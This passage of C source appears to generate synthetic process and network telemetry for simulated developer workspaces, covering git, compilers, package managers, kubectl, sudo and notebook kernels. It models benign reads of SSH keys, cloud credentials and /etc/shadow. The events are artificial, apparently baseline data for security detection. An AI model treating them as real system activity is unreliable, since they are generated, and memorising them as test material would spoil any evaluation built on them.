		u64 x = e + span(60, 300) * SEC;
		fin_sig(w->lsp, x, 0, "SIGTERM"), fin(w->exth, x + 50 * MSEC, 0), w->lsp = w->exth = NULL;
	}
	if (w->kern && pct(35)) fin(w->kern, e + span(1, 600) * SEC, 0), w->kern = NULL;
	w->in_sess = 0;
}

/* ---- actions: each returns the time its process tree ends ---------------------------------------------- */
static P *spawn_cmd(P *par, u64 t, const char *cmd) /* "bin args" */
{
	char b[1024], *sp;
	xp(cmd, b, sizeof b);
	return (sp = strchr(b, ' ')) ? (*sp++ = 0, spawn(par, t, b, "%s", sp)) : spawn(par, t, b, "");
}
/* one run of a table tool: exec, file reads, connections, a child, kernel-facing calls, exit */
static u64 tool(P *par, u64 t, const struct tool *tl)
{
	char args[1024], r[400], *save = NULL;
	xp(alt(tl->args), args, sizeof args);
	P *p = spawn(par, t, X(tl->bin), "%s", args);
	u64 c = t + span(300, 3000) * USEC, end = t + capd(t, dms(tl->ms));
	snprintf(r, sizeof r, "%s", tl->reads ? tl->reads : "");
	for (char *f = strtok_r(r, "|", &save); f; f = strtok_r(NULL, "|", &save))
		if (pct(75)) kfile(p, c, X(f), 4), c += span(100, 900) * USEC;
	for (u32 i = tl->nconn ? 1 + below(tl->nconn) : 0; i; i--) c = conn(p, c, tl->dst, tl->port);
	if (tl->child && pct(70)) {
		P *ch = spawn_cmd(p, c + MSEC, tl->child);
		if (tl->kact == KA_PTRACE) { /* strace seizes its child; gdb attaches and plants breakpoints */
			int gdb = strstr(p->bin, "gdb") != NULL;
			kcall(p, c + 2 * MSEC, "__x64_sys_ptrace", 2, gdb ? 16 : 16902, ch->pid);
			if (gdb) kcall(p, c + 40 * MSEC, "__x64_sys_ptrace", 2, 5, ch->pid);
		}
		c = MAXU(c + 10 * MSEC, t + (end - t) * 9 / 10);
		fin(ch, c, 0);
	}
	if (tl->kact == KA_UNSHARE) {
		kcall(p, c + MSEC, "__x64_sys_unshare", 1, 0x10020000, 0);
		if (strstr(p->bin, "podman") && pct(50)) kcall(p, c + 3 * MSEC, "__x64_sys_setns", 2, 5, 0x10000000);
	}
	end = MAXU(end, c + MSEC);
	fin(p, end, pct(5) ? (pct(70) ? 1 : 130) : 0);
	return end;
}
static const struct tool *pick_tool(const struct tool *a, u32 n)
{
	u32 w[96];
	for (u32 i = 0; i < n; i++) w[i] = !a[i].imgs || (a[i].imgs >> cw->img & 1) ? a[i].weight : 0;
	return &a[wpick(w, n)];
}
#define TOOL(sh, t, arr) tool(sh, t, pick_tool(arr, NELEM(arr)))
static u64 a_cmd(P *sh, u64 t)
{
	u64 e = TOOL(sh, t, common_tools);
	if (pct(12)) fin(spawn_cmd(sh, t + 200 * USEC, PICK(pipes)), e + 500 * USEC, 0), e += MSEC; /* both sides of a pipe */
	return e;
}
static u64 a_edit(P *sh, u64 t)
{
	const char *b = cw->zsh && pct(30) ? "/usr/bin/nvim" : PICK(editors);
	P *p = spawn(sh, t, b, "%s", X(pct(80) ? "{file}" : "README.md|Makefile|.env|docker-compose.yml|.gitignore"));
	u64 e = t + capd(t, dms(90000));
	if (b[9] == 'n' && b[10] == 'v' && pct(60))
		fin(spawn(p, t + 80 * MSEC, "/usr/bin/node", "%s/.local/share/nvim/mason/packages/pyright/node_modules/pyright/langserver.index.js "
			  "--stdio", cw->home), e - MSEC, 0);
	fin(p, e, 0);
	return e;
}
static int has_tail(const char *name)
{
	for (u8 i = 0; i < cw->ntail; i++)
		if (strstr(tail_tools[cw->tail[i]].bin, name)) return 1;
	return 0;
}
/* git talking to its remote: ssh (reads the user's key) or git-remote-https (+ credential helper) */
static u64 git_net(P *par, u64 t, const char *sub)
{
	W *w = cw;
	const char *host = w->pr[w->cur].gitlab ? "gitlab.com" : "github.com", *org = w->pr[w->cur].org, *name = w->pr[w->cur].name;
	int dst = w->pr[w->cur].gitlab ? D_GITLAB : D_GH, push = !strncmp(sub, "push", 4);
	char a[300];
	if (!strcmp(sub, "clone")) {
		const char *to = PICK(words);
		snprintf(a, sizeof a, w->gitssh ? "clone git@%s:%s/%s.git /tmp/%s-%u" : "clone https://%s/%s/%s.git /tmp/%s-%u", host, org, name, to, below(100));
	} else
		snprintf(a, sizeof a, "%s", sub);
	P *top = spawn(par, t, "/usr/bin/git", "%s", a), *g = top;
	u64 c = t + span(2, 8) * MSEC;
	if (!strncmp(sub, "pull", 4)) g = spawn(top, c, "/usr/bin/git", "fetch --update-head-ok"), c += 2 * MSEC; /* pull runs fetch */
	if (w->gitssh) {
		P *s = spawn(g, c, "/usr/bin/ssh", "-o SendEnv=GIT_PROTOCOL git@%s \"git-%s-pack '%s/%s.git'\"", host, push ? "receive" : "upload", org, name);
		c = conn(s, c + span(1, 4) * MSEC, dst, 22);
		c += span(20, 90) * MSEC;
		kfile(s, c, X(w->rsa ? "{home}/.ssh/id_rsa" : "{home}/.ssh/id_ed25519"), 4);
		c += dms(900) + 100 * MSEC;
		fin(s, c, 0);
	} else {
		P *r = spawn(g, c, "/usr/lib/git-core/git-remote-https", "origin https://%s/%s/%s.git", host, org, name);
		u64 d = c + span(2, 30) * MSEC;
		if (w->cred == 0) {
			P *h = spawn(r, d, "/usr/lib/git-core/git-credential-store", "get");
			kfile(h, d + 400 * USEC, X("{home}/.git-credentials"), 4), fin(h, d + 3 * MSEC, 0);
		} else if (w->cred == 1) {
			P *h = spawn(r, d, "/usr/bin/gh", "auth git-credential get");
			kfile(h, d + 2 * MSEC, X("{home}/.config/gh/hosts.yml"), 4), fin(h, d + 30 * MSEC, 0);
		} else
			leaf(r, d, 2, "/usr/lib/git-core/git-credential-cache", "get");
		c = conn(r, d + 40 * MSEC, dst, 443);
		c += dms(700);
		fin(r, c, 0);
	}
	if (!push && (a[0] == 'c' || pct(25)))
		c = leaf(g, c + MSEC, 300, "/usr/lib/git-core/git", "index-pack --stdin -v --fix-thin \"--keep=fetch-pack %u on %s\" "
			 "--check-self-contained-and-connected", g->pid, w->pod);
	if (g != top) {
		fin(g, c + MSEC, 0), c += 2 * MSEC;
		if (pct(30)) c = leaf(top, c, 5, "/usr/lib/git-core/git", "merge --ff-only FETCH_HEAD");
	}
	fin(top, c + 2 * MSEC, pct(3) ? 128 : 0);
	return c + 2 * MSEC;
}
static u64 a_git(P *sh, u64 t)
{
		char a[300];
	xp(PICK(git_local), a, sizeof a);
	P *g = spawn(sh, t, "/usr/bin/git", "%s", a);
	u64 c = t + dms(8);
	if ((!strncmp(a, "diff", 4) || !strncmp(a, "log", 3) || !strncmp(a, "show", 4) || !strncmp(a, "blame", 5)) && pct(60))
		c = leaf(g, t + MSEC, 8000, "/usr/bin/less", "-FRX");
	if (!strcmp(a, "commit") || !strncmp(a, "rebase", 6))
		c = leaf(g, t + 2 * MSEC, 25000, "/usr/bin/vim", "%s/.git/%s", cw->pr[cw->cur].dir, a[0] == 'c' ? "COMMIT_EDITMSG" : "rebase-merge/git-rebase-todo");
	if (!strncmp(a, "commit", 6) && has_tail("pre-commit")) {
		P *h = spawn(g, t + 3 * MSEC, X("{home}/.local/bin/pre-commit"), "hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit");
		c = leaf(h, t + 300 * MSEC, 1500, X("{home}/.cache/pre-commit/repo{h7}/py_env-python3/bin/ruff"), "check --fix");
		fin(h, c + MSEC, 0);
	}
	c = MAXU(c, t + MSEC) + MSEC;
	fin(g, c, pct(4) ? 1 : 0);
	return c;
}
static u64 a_gitnet(P *sh, u64 t)
{
		return git_net(sh, t, PICK(git_remote));
}

/* the gcc driver: cc1/cc1plus and as for a compile, collect2 and ld for a link (src NULL) */
static u64 cc(P *par, u64 t, int cxx, const char *src, const char *out)
{
	char tmp[8], l[200];
	alnum(tmp, 6);
	P *g = spawn(par, t, cxx ? "/usr/bin/g++" : "/usr/bin/cc", src ? "-O2 -g -Wall -c %s -o %s" : "-o %s%s -lpthread", src ? src : out, src ? out : "");
	u64 c = t + 600 * USEC;
	if (src) {
		c = leaf(g, c, cxx ? 1800 : 350, cxx ? GCCX "cc1plus" : GCCX "cc1", "-quiet -imultiarch x86_64-linux-gnu %s -quiet -dumpbase %s -mtune=generic "
			 "-march=x86-64 -O2 -Wall -o /tmp/cc%s.s", src, src, tmp);
		c = leaf(g, c + 200 * USEC, 12, "/usr/bin/as", "--64 -o %s /tmp/cc%s.s", out, tmp);
	} else {
		snprintf(l, sizeof l, "-plugin " GCCX "liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 -dynamic-linker /lib64/ld-linux-x86-64.so.2 "
			 "-pie -o %s", out);
		P *c2 = spawn(g, c, GCCX "collect2", "%s", l);
		c = leaf(c2, c + MSEC, 200, "/usr/bin/ld", "%s", l);
		fin(c2, c + MSEC, 0), c += MSEC;
	}
	fin(g, c + MSEC, 0);
	return c + MSEC;
}
/* a program that talks to in-cluster databases (maybe AWS) for a while */
static u64 app(P *p, u64 t, u64 d)
{
	u64 c = t + span(50, 900) * MSEC;
	for (u32 i = pct(60) ? 1 + below(3) : 0; i; i--) c = conn(p, c, DST_SVC(PICK(db_svcs)), 0), c += ex(d / 4);
	if (cw->aws && pct(25)) kfile(p, c, X("{home}/.aws/credentials"), 4), c = conn(p, c + MSEC, D_AWS, 0);
	if (pct(5)) c = conn(p, c, DST_SVC(S_DNS), 53);
	return MAXU(c + MSEC, t + d);
}
static u64 go_cmd(P *sh, u64 t, const char *sub)
{
	W *w = cw;
	const char *name = w->pr[w->cur].name;
	P *g = spawn(sh, t, "/usr/local/go/bin/go", "%s", sub);
	char tmp[40], path[200];
	u32 r = 100000 + below(900000);
	snprintf(tmp, sizeof tmp, "/tmp/go-build%u%05u", r, below(100000));
	u64 c = t + span(5, 60) * MSEC, mx = c;
	int test = sub[0] == 't', run = sub[0] == 'r', vet = sub[0] == 'v';
	if (pct(4)) c = conn(g, c, D_GOPROXY, 0);
	for (u32 i = 0, n = pct(25) ? 0 : 1 + below(test ? 14 : 8); i < n; i++) {
		u64 s = c + i * span(5, 80) * MSEC;
		u32 b = run ? 1 + i : 2 + below(80);
		const char *pkg = PICK(words), *id = X("{h7}{h7}/{h7}");
		mx = MAXU(mx, leaf(g, s, 300, GOTOOL "compile", "-o %s/b%03u/_pkg_.a -trimpath \"%s/b%03u=>\" -p %s/%s -lang=go1.23 -complete -buildid %s "
				   "-goversion go1.23.2 -c=4 -nolocalimports -importcfg %s/b%03u/importcfg -pack", tmp, b, tmp, b, name, pkg, id, tmp, b));
		if (pct(8)) mx = MAXU(mx, leaf(g, s + 2 * MSEC, 40, GOTOOL "asm", "-p %s -trimpath \"%s/b%03u=>\" -o %s/b%03u/asm.o", pkg, tmp, b, tmp, b));
		if (vet || (test && pct(50))) mx = MAXU(mx, leaf(g, s + 5 * MSEC, 150, GOTOOL "vet", "%s/b%03u/vet.cfg", tmp, b));
	}
	c = mx + MSEC;
	if (run || test || sub[0] == 'b')
		c = leaf(g, c, 600, GOTOOL "link", "-o %s/b001/%s -importcfg %s/b001/importcfg.link -buildmode=pie -buildid=%s -extld=gcc %s/b001/_pkg_.a", tmp,
			 run ? "exe/a.out" : test ? "pkg.test" : name, tmp, X("{h7}"), tmp) + MSEC;
	for (u32 i = 0, n = test ? 1 + below(5) : 0; i < n; i++) {
		u32 b = 2 + below(80);
		snprintf(path, sizeof path, "%s/b%03u/%s.test", tmp, b, PICK(words));
		P *tp = spawn(g, c, path, "-test.paniconexit0 -test.timeout=10m0s%s", pct(30) ? " -test.v=true" : "");
		c = app(tp, c, dms(1200));
		fin(tp, c, pct(8) ? 1 : 0), c += MSEC;
	}
	if (run) { /* go run: the binary in the build cache's exe directory */
		snprintf(path, sizeof path, "%s/b001/exe/%s", tmp, name);
		P *ap = spawn(g, c, path, pct(50) ? "" : "--config config/dev.yaml");
		c = app(ap, c, capd(c, dms(60000)));
		fin(ap, c, pct(50) ? 0 : 1), c += MSEC;
	}
	fin(g, c + MSEC, 0);
	return c + MSEC;
}
static u64 cargo(P *sh, u64 t, const char *sub)
{
	W *w = cw;
	const char *name = w->pr[w->cur].name, *dir = w->pr[w->cur].dir;
	P *px = spawn(sh, t, X("{home}/.cargo/bin/cargo"), "%s", sub); /* the rustup proxy execs the toolchain's cargo */
	g_noclone = 1;
	P *cg = spawn(px, t + 2 * MSEC, X(RUSTC "cargo"), "%s", sub);
	replaced(px);
	u64 c = t + span(20, 200) * MSEC, mx;
	int fresh = pct(10), test = strstr(sub, "test") != NULL, run = sub[0] == 'r';
	if (fresh) c = conn(cg, c, D_CRATES, 0), c = conn(cg, c, D_CRATES, 0);
	mx = c;
	for (u32 i = 0, n = fresh ? 8 + below(20) : below(3); i < n; i++) {
		const char *cr = PICK(crates), *meta = X("{h7}{h7}");
		u64 s = c + i * span(20, 200) * MSEC;
		u32 v = below(200);
		mx = MAXU(mx, leaf(cg, s, 900, X(RUSTC "rustc"), "--crate-name %s --edition=2021 %s/.cargo/registry/src/index.crates.io-6f17d22bba15001f/"
				   "%s-1.0.%u/src/lib.rs --error-format=json --crate-type lib --emit=dep-info,metadata,link -C debuginfo=2 -C metadata=%s",
				   cr, w->home, cr, v, meta));
		if (pct(15)) { /* a build script, maybe compiling C with the cc crate */
			char bs[300];
			snprintf(bs, sizeof bs, "%s/target/debug/build/%s-%s/build-script-build", dir, cr, X("{h7}{h7}12"));
			P *b = spawn(cg, s + 100 * MSEC, bs, "");
			u64 e = s + 200 * MSEC;
			if (pct(40)) {
				const char *src = X("{word}.c");
				e = cc(b, s + 150 * MSEC, 0, src, X("{pdir}/target/debug/build/out/{word}.o"));
			}
			fin(b, e + MSEC, 0), mx = MAXU(mx, e + MSEC);
		}
	}
	c = mx + MSEC;
	if (strncmp(sub, "fmt", 3)) {
		P *r = spawn(cg, c, X(RUSTC "rustc"), "--crate-name %s --edition=2021 src/%s.rs --error-format=json --json=diagnostic-rendered-ansi --crate-type %s "
			     "--emit=dep-info,link -C debuginfo=2 -C incremental=%s/target/debug/incremental", name, run ? "main" : "lib", test ? "bin --test" : "bin", dir);
		u64 e = c + dms(2500);
		if (strncmp(sub, "check", 5) && strncmp(sub, "clippy", 6)) e = cc(r, e, 0, NULL, X("{pdir}/target/debug/deps/{proj}")) + 5 * MSEC;
		fin(r, e, pct(10) ? 1 : 0), c = e + MSEC;
	}
	if (test || run) { /* cargo test runs target/debug/deps/<crate>-<16 hex> */
		char path[200], crate[48];
		snprintf(crate, sizeof crate, "%s", name);
		for (char *q = crate; *q; q++) *q = *q == '-' ? '_' : *q;
		if (test) snprintf(path, sizeof path, "%s/target/debug/deps/%s-%s", dir, crate, X("{h7}{h7}ab"));
		else snprintf(path, sizeof path, "%s/target/debug/%s", dir, name);
		P *tp = spawn(cg, c, path, test ? "" : "--port 8080");
		c = app(tp, c, test ? dms(1500) : capd(c, dms(60000)));
		fin(tp, c, pct(8) ? 101 : 0), c += MSEC;
	}
	fin(cg, c + MSEC, 0);
	return c + MSEC;
}
/* npm run SCRIPT: npm -> sh -c "CMD" -> (execve) node node_modules/.bin/TOOL */
static u64 npm_run(P *sh, u64 t, const char *script, const char *cmd, const char *tool, u32 ms)
{
	const char *dir = cw->pr[cw->cur].dir;
	P *n = spawn(sh, t, "/usr/bin/npm", "%s", script), *s = spawn(n, t + 180 * MSEC, "/bin/sh", "-c \"%s\"", cmd);
	g_noclone = 1;
	P *j = spawn(s, t + 182 * MSEC, "/usr/bin/node", "%s/node_modules/.bin/%s", dir, tool);
	replaced(s);
	u64 c = t + 300 * MSEC, e = c + capd(c, dms(ms));
	if (!strncmp(tool, "vite", 4) || pct(10)) fin(spawn(j, c, X("{pdir}/node_modules/@esbuild/linux-x64/bin/esbuild"), "--service=0.21.5 --ping"), e - 2 * MSEC, 0);
	for (u32 i = 0, k = strncmp(tool, "jest", 4) ? 0 : 2 + below(3); i < k; i++)
		fin(spawn(j, c + i * MSEC, "/usr/bin/node", "%s/node_modules/jest-worker/build/workers/processChild.js", dir), e - 3 * MSEC, 0);
	if (strstr(script, "dev") || strstr(script, "start")) e = app(j, c, e - c);
	int st = pct(8) ? 1 : 0;
	fin(j, e, st), fin(n, e + 20 * MSEC, st);
	return e + 20 * MSEC;
}
/* mvn is a script that execs java; surefire forks a JVM for the tests, spring-boot:run one for the app */
static u64 mvn(P *sh, u64 t, const char *goal)
{
	const char *dir = cw->pr[cw->cur].dir;
	P *m = spawn(sh, t, "/usr/share/maven/bin/mvn", "%s", goal);
	g_noclone = 1;
	P *j = spawn(m, t + 20 * MSEC, JAVA, "-classpath /usr/share/maven/boot/plexus-classworlds-2.8.0.jar -Dclassworlds.conf=/usr/share/maven/bin/m2.conf "
		     "-Dmaven.home=/usr/share/maven -Dmaven.multiModuleProjectDirectory=%s org.codehaus.plexus.classworlds.launcher.Launcher %s", dir, goal);
	replaced(m);
	u64 c = t + 2500 * MSEC;
	for (u32 i = pct(20) ? 1 + below(6) : 0; i; i--) c = conn(j, c, D_MAVEN, 0);
	c += dms(8000);
	if (strstr(goal, "test") || strstr(goal, "package") || strstr(goal, "verify")) {
		u32 stamp = below(999999);
		P *f = spawn(j, c, JAVA, "-jar %s/target/surefire/surefirebooter-20261102%06u_3.jar %s/target/surefire 2026-11-02T00-00-00_000-jvmRun1 "
			     "surefire-%u_1tmp surefire_0-%u_2tmp", dir, stamp, dir, stamp, stamp + 1);
		c = app(f, c, dms(15000));
		fin(f, c, pct(10) ? 1 : 0), c += 100 * MSEC;
	}
	if (strstr(goal, "spring-boot:run")) {
		P *f = spawn(j, c, JAVA, "-XX:TieredStopAtLevel=1 -cp %s/target/classes:%s/.m2/repository com.example.%s.Application", dir, cw->home, PICK(words));
		c = app(f, c, capd(c, dms(600000)));
		fin_sig(f, c, 0, "SIGINT"), c += 100 * MSEC;
	}
	fin(j, c + 200 * MSEC, pct(8) ? 1 : 0);
	return c + 200 * MSEC;
}
static u64 a_build(P *sh, u64 t)
{
	W *w = cw;
	u32 k = below(6);
	u64 c;
	P *p;
	switch (w->img) {
	case IMG_PY:
		if (k == 5) return TOOL(sh, t, py_tools);
		p = spawn(sh, t, k == 4 ? "/opt/conda/bin/pytest" : PY3, "%s", X(k < 2 ? "{word}.py|scripts/{word}.py --date 2026-11-0{n}|-m {word}.cli run|"
				"train.py --epochs {n} --data data/train.parquet" : k < 4 ? "-m uvicorn app.main:app --reload --port 8000|manage.py runserver "
				"0.0.0.0:8000|-m flask run --debug|manage.py migrate" : "-q tests/|-q -n auto|--cov={word} tests/|-x tests/test_{word}.py"));
		c = t + 300 * MSEC;
		u64 d = k < 2 ? dms(20000) : k < 4 ? capd(t, dms(900000)) : dms(8000);
		if (strstr(p->args, "--reload"))
			fin(spawn(p, c, PY3, "-c \"from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)\" --multiprocessing-fork"),
			    t + d, 0);
		for (u32 i = 0, n = strstr(p->args, "-n auto") ? 2 + below(3) : 0; i < n; i++) /* pytest-xdist workers */
			fin(spawn(p, c + i * MSEC, PY3, "-u -c \"import sys;exec(eval(sys.stdin.readline()))\""), t + d, 0);
		c = app(p, c, d);
		fin(p, c + MSEC, pct(12) ? 1 : 0);
		return c + MSEC;
	case IMG_NODE: {
		const char *const *s = npm_scripts[below(NELEM(npm_scripts))];
		return npm_run(sh, t, s[0], s[1], s[2], (u32)atoi(s[3]) * 1000);
	}
	case IMG_GO:
		if (k == 5) return leaf(sh, t, 6000, X("{home}/go/bin/golangci-lint"), "run ./...");
		return go_cmd(sh, t, X(k < 2 ? "build ./...|build -o bin/{proj} ./cmd/{proj}" : k < 4 ? "test ./...|test -race ./internal/...|test -run Test{word} ./..."
							   : "run .|run ./cmd/{proj}|vet ./..."));
	case IMG_JAVA:
		if (k == 5) { /* the gradle wrapper is a script that execs java */
			P *g = spawn(sh, t, X("{pdir}/gradlew"), "%s", X("build|test|bootRun|clean build"));
			g_noclone = 1;
			P *j = spawn(g, t + 5 * MSEC, JAVA, "-Xmx64m -Xms64m -Dorg.gradle.appname=gradlew -classpath %s/gradle/wrapper/gradle-wrapper.jar "
				     "org.gradle.wrapper.GradleWrapperMain %s", w->pr[w->cur].dir, g->args);
			replaced(g);
			c = conn(j, t + 400 * MSEC, D_GRADLE, 0);
			c = app(j, c, dms(20000));
			return fin(j, c, pct(10)), c;
		}
		if (k == 4) {
			p = spawn(sh, t, JAVA, "%s", X("-jar target/{proj}-0.1.0.jar|-jar target/{proj}-0.1.0.jar --spring.profiles.active=dev"));
			c = app(p, t, capd(t, dms(300000)));
			return fin_sig(p, c, 130, pct(50) ? "SIGINT" : NULL), c;
		}
		return mvn(sh, t, X(k < 2 ? "-q test|test -Dtest={word}Test|clean verify" : k == 2 ? "package -DskipTests|clean package|install" : "spring-boot:run"));
	case IMG_RUST:
		return cargo(sh, t, X(k < 2 ? "build|build --release|check" : k < 4 ? "test|test -- --nocapture|test {word}" : k == 4 ? "run|run -- --port 8080"
												       : "clippy --all-targets|fmt"));
	}
	if (k >= 3) return TOOL(sh, t, cpp_tools); /* gdb, strace, ctest, clang-format, the program */
	if (k == 2) { /* cmake configure: compiler checks in try-compile projects */
		p = spawn(sh, t, "/usr/bin/cmake", "%s", X("-S . -B build -DCMAKE_BUILD_TYPE=Debug|-B build -G Ninja|-S . -B build -DCMAKE_EXPORT_COMPILE_COMMANDS=ON"));
		c = t + 100 * MSEC;
		for (u32 i = 0, n = 2 + below(3); i < n; i++) {
			g_cwd = X("{pdir}/build/CMakeFiles/CMakeScratch/TryCompile-{h7}");
			P *mk = spawn(p, c, "/usr/bin/gmake", "-f Makefile cmTC_%s/fast", X("{h7}"));
			c = cc(mk, c + 5 * MSEC, i & 1, i & 1 ? "CMakeCXXCompilerABI.cpp" : "CMakeCCompilerABI.c", "cmTC.o") + MSEC;
			fin(mk, c, 0);
		}
		return fin(p, c + 50 * MSEC, 0), c + 50 * MSEC;
	}
	p = spawn(sh, t, k ? "/usr/bin/cmake" : "/usr/bin/make", "%s", k ? "--build build -j 4" : X("-j4|-j8|test|-C build|all"));
	P *mk = k ? spawn(p, t + 30 * MSEC, "/usr/bin/gmake", "-f CMakeFiles/Makefile2 all") : p;
	u64 mx = c = t + 50 * MSEC;
	for (u32 i = 0, n = pct(20) ? 0 : 1 + below(8); i < n; i++) {
		char src[80];
		snprintf(src, sizeof src, "%s/%s.cpp", i % 3 ? "src" : "tests", PICK(words));
		mx = MAXU(mx, cc(mk, c + (i / 4) * 1200 * MSEC + i % 4 * 3 * MSEC, 1, src, X("build/CMakeFiles/{proj}.dir/{word}.cpp.o")));
	}
	c = mx > c ? cc(mk, mx + MSEC, 1, NULL, X("build/{proj}")) : mx;
	if (mk != p) fin(mk, c + MSEC, 0);
	return fin(p, c + 2 * MSEC, pct(10) ? 2 : 0), c + 2 * MSEC;
}
static u64 a_kube(P *sh, u64 t)
{
	if (!cw->extk8s || pct(50)) return TOOL(sh, t, kube_tools);
	/* a GKE cluster outside: kubectl runs the gcloud auth plugin, then talks to the external API */
	P *k = spawn(sh, t, "/usr/local/bin/kubectl", "%s", X("get pods -n {ns}|logs deploy/{proj} -n {ns} --tail=50|get nodes"));
	kfile(k, t + MSEC, X("{home}/.kube/config"), 4);
	P *a = spawn(k, t + 3 * MSEC, "/usr/lib/google-cloud-sdk/bin/gke-gcloud-auth-plugin", "");
	kfile(a, t + 5 * MSEC, X("{home}/.config/gcloud/application_default_credentials.json"), 4);
	u64 c = conn(a, t + 8 * MSEC, D_GCP, 0);
	fin(a, c += dms(150), 0);
	c = conn(k, c + MSEC, D_EXT_K8S, 0);
	fin(k, c += dms(400), 0);
	return c;
}
static u64 a_sudo(P *sh, u64 t)
{
	W *w = cw;
	u32 k = below(100), v = below(9);
	const char *pkg = PICK(apt_pkgs);
	char cmd[200];
	if (k < 85) snprintf(cmd, sizeof cmd, k < 65 ? "apt-get install -y %s" : "apt-get update", pkg);
	else snprintf(cmd, sizeof cmd, k < 93 ? "vim /etc/hosts" : "chown -R %s:%s %s", w->user, w->user, w->pr[w->cur].dir);
	P *s = spawn(sh, t, "/usr/bin/sudo", "%s", cmd);
	u64 c = t + 3 * MSEC, d;
	if (w->sudopw && pct(60)) { /* asked for the password: PAM reads /etc/shadow (through unix_chkpwd in most images) */
		c += span(2, 8) * SEC;
		P *u = w->img == IMG_JAVA ? s : spawn(s, c, "/usr/sbin/unix_chkpwd", "%s nonull", w->user);
		kfile(u, c + 300 * USEC, "/etc/shadow", 4);
		if (u != s) fin(u, c + 2 * MSEC, 0);
		c += 5 * MSEC;
	}
	g_uid = 0;
	if (k >= 85) return c = leaf(s, c, 20000, k < 93 ? "/usr/bin/vim" : "/usr/bin/chown", "%s", strchr(cmd, ' ') + 1), fin(s, c + MSEC, 0), c + MSEC;
	P *a = spawn(s, c, "/usr/bin/apt-get", "%s", cmd + 8);
	d = c + 30 * MSEC;
	for (u32 i = 0, n = 1 + below(3); i < n; i++) { /* the download methods run as _apt */
		g_uid = 42;
		P *h = spawn(a, d, "/usr/lib/apt/methods/http", "");
		d = conn(h, d + MSEC, D_UBUNTU, 80);
		fin(h, d += dms(1500), 0);
	}
	g_uid = 42;
	P *gv = spawn(a, d, "/usr/lib/apt/methods/gpgv", "");
	d = leaf(gv, d + MSEC, 30, "/usr/bin/gpgv", "%s", X("--homedir /tmp/apt-key-gpghome.{h7} --keyring /etc/apt/trusted.gpg.d/ubuntu-keyring-2018-archive.gpg "
							  "/tmp/apt.sig.{h7} /tmp/apt.data.{h7}"));
	fin(gv, d + MSEC, 0);
	if (k < 65) { /* dpkg unpacks and configures */
		P *dp = spawn(a, d + 5 * MSEC, "/usr/bin/dpkg", "--status-fd 36 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%s_1.%u-1_amd64.deb",
			      pkg, v);
		d = leaf(dp, d + 8 * MSEC, 60, "/usr/bin/dpkg-deb", "--fsys-tarfile /var/cache/apt/archives/%s_1.%u-1_amd64.deb", pkg, v);
		if (pct(60)) d = leaf(dp, d + MSEC, 80, "/bin/sh", "/var/lib/dpkg/info/%s.postinst configure", pkg);
		fin(dp, d + MSEC, 0);
	}
	fin(a, d + 5 * MSEC, 0), fin(s, d + 6 * MSEC, 0);
	return d + 6 * MSEC;
}
static u64 a_tail(P *sh, u64 t)
{
	u32 w[3] = {0}, i;
	for (i = 0; i < cw->ntail; i++) w[i] = tail_tools[cw->tail[i]].weight;
	return cw->ntail ? tool(sh, t, &tail_tools[cw->tail[wpick(w, cw->ntail)]]) : t;
}
/* a notebook cell that does something visible */
static u64 a_kern(P *k, u64 t)
{
	W *w = cw;
	u32 r = below(100), i;
	u64 e = t;
	if (r < 30) return app(k, t, dms(4000)); /* database queries */
	if (r < 40) return conn(k, t, pct(50) ? D_HF : pct(50) ? D_GH_OBJ : D_DL, 0);
	if (r < 48 && w->aws) return kfile(k, t, X("{home}/.aws/credentials"), 4), conn(k, t + MSEC, D_AWS, 0);
	if (r < 50) return conn(k, t, DST_SVC(S_MLFLOW), 0);
	if (r < 68) { /* !shell escapes: sh -c, which execs the command */
		char c[200];
		xp(cell_cmds[i = below(NELEM(cell_cmds))][0], c, sizeof c);
		P *s = spawn(k, t, "/bin/sh", "-c \"%s\"", c);
		g_noclone = 1;
		P *x = spawn(s, t + 900 * USEC, cell_cmds[i][1], "%s", strchr(c, ' ') ? strchr(c, ' ') + 1 : "");
		replaced(s);
		e = t + dms(i ? 30 : 5000);
		if (!i) e = MAXU(e, conn(x, t + 200 * MSEC, D_PYPI, 0));
		return fin(x, e, 0), e;
	}
	if (r < 90) { /* libraries that start helper processes */
		u32 n = (i = below(NELEM(cell_helpers))) == 4 || i == 5 ? 1 + below(4) : 1;
		for (u32 j = 0; j < n; j++) e = MAXU(e, leaf(k, t + j * MSEC, i >= 4 ? 8000 : 5, cell_helpers[i][0], "%s", cell_helpers[i][1]));
		return e;
	}
	fin(k, t, 0), w->kern = NULL; /* kernel restart */
	return ensure_kernel(w, t + span(300, 2000) * MSEC)->start;
}
/* the editor reacts to a save: git status polling, language-server helpers */
static u64 a_ide(W *w, u64 t, int light)
{
	if (!w->exth) return t;
	t = MAXU(t, w->exth->start + SEC), g_cwd = w->pr[w->cur].dir;
	u64 c = leaf(w->exth, t, 15, "/usr/bin/git", "-c core.quotepath=false status -z -uall");
	if (light) return c;
	if (pct(50)) g_cwd = w->pr[w->cur].dir, c = leaf(w->exth, c + MSEC, 10, "/usr/bin/git", "%s", X(PICK(ide_git)));
	if (w->img == IMG_GO && pct(30))
		c = leaf(w->lsp, c, 700, "/usr/local/go/bin/go", "list -e -json=Name,ImportPath,Error,Dir,GoFiles,CompiledGoFiles,Imports,Deps,Module -compiled=true "
			 "-test=true -export=false -deps=true -find=false -pgo=off -- %s/...", w->pr[w->cur].dir);
	if (w->img == IMG_RUST && pct(60)) c = cargo(w->lsp, c, "check --workspace --message-format=json-diagnostic-rendered-ansi --all-targets --keep-going");
	return c;
}

/* ---- workspace profiles and day plans ------------------------------------------------------------------ */
static void add_sess(W *w, i64 s, i64 e)
{
	s = s < (i64)(T0 + SEC) ? (i64)(T0 + SEC) : s, e = e > (i64)(TEND - SEC) ? (i64)(TEND - SEC) : e;
	if (e - s >= (i64)(3 * MIN) && w->nss < NELEM(w->ss) && (!w->nss || s >= (i64)(w->ss[w->nss - 1].e + 5 * MIN)))
		w->ss[w->nss].s = (u64)s, w->ss[w->nss++].e = (u64)e;
}
/* working days in the owner's time zone: 0-5 sessions, heavy users sometimes come back in the evening */
static void plan(W *w)
{
	static const u32 nsess[4][2] = {{0, 2}, {1, 2}, {2, 3}, {3, 3}}, len_min[4] = {25, 60, 100, 130};
	i64 off = (i64)w->tz * (i64)MIN, first = ((i64)T0 + off) / (i64)DAY, last = ((i64)TEND + off) / (i64)DAY;
